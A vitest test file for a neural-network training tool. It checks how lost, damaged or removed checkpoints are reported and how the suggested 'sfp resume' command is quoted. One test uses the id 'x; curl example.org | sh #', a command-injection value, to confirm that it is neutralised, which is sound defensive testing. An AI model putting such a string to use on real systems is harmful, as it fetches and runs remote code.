import { mkdir, rm, truncate } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { UserError } from '../../../../src/base/errors';
import { initialState } from '../../../../src/network/initialState';
import { Checkpoints } from '../../../../src/runs/checkpoints/checkpoints';
import { lossSentence, lostCheckpoints, orResume } from '../../../../src/runs/checkpoints/lostCheckpoints';
import { readManifest } from '../../../../src/runs/folder/manifest';
import { nextOf } from '../../../../src/runs/model/lostCheckpoints';
import { narrowCifarNet } from '../../../fixtures/compactNetwork';
import { newRunFolder } from '../../../fixtures/runFolder';

const id = 'x; curl example.org | sh #';

test('a command that is told for an id from elsewhere is harmless when it is copied', async () => {
  const told = [
    lossSentence(id, { how: 'damaged', what: 'its checkpoint epoch-0001 is damaged', goesOnFrom: null }),
    await orResume(id, () => {
      throw new UserError('Damaged.');
    }).catch(String),
  ];
  for (const sentence of told) expect(sentence).toContain("`sfp resume 'x? curl example.org ? sh ?'`");
});

test('a folder of checkpoints that was removed whole is told apart from one that has lost some or all of them', async () => {
  const run = await newRunFolder();
  const content = { step: null, pruned: true, validation: null, best: false, importance: null };
  const manifest = await readManifest(run);
  const checkpoints = new Checkpoints(run);
  for (const epoch of [0, 1]) await checkpoints.save({ ...content, epoch, state: initialState(narrowCifarNet, epoch) });
  expect(await lostCheckpoints(run, manifest, 'contents')).toBeNull();

  await truncate(join(run, 'checkpoints', 'epoch-0001', 'weights.safetensors'), 10);
  expect(await lostCheckpoints(run, manifest, 'lengths')).toMatchObject({ how: 'damaged', goesOnFrom: 'epoch-0000' });
  for (const epoch of [0, 1]) await rm(join(run, 'checkpoints', `epoch-000${epoch}`), { recursive: true });
  const gone = await lostCheckpoints(run, manifest, 'lengths');
  expect(gone).toEqual({ how: 'damaged', what: 'it has no checkpoint any more', goesOnFrom: null });
  expect(nextOf(gone!)).toBe('is trained again from the beginning, as none is whole');

  await rm(join(run, 'checkpoints'), { recursive: true });
  const removed = await lostCheckpoints(run, manifest, 'lengths');
  expect(removed).toMatchObject({ how: 'removed', goesOnFrom: null });
  expect(lossSentence('net', removed!)).toBe(
    'net has finished; it is kept without checkpoints: there is no folder of them. With `sfp resume net` it is trained again from the beginning.',
  );
  await mkdir(join(run, 'checkpoints'));
  expect(await lostCheckpoints(run, manifest, 'lengths')).toEqual(gone);
});
